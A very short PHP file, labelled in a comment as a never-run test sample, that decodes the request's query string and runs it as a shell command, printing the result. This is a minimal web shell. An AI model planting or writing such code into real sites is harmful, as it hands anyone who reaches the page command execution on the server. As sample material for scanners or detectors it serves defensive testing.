<?php
// Test sample (never run): the query string run as a shell command.
$cmd = urldecode($_SERVER['QUERY_STRING']);
echo '<pre>' . `$cmd` . '</pre>';
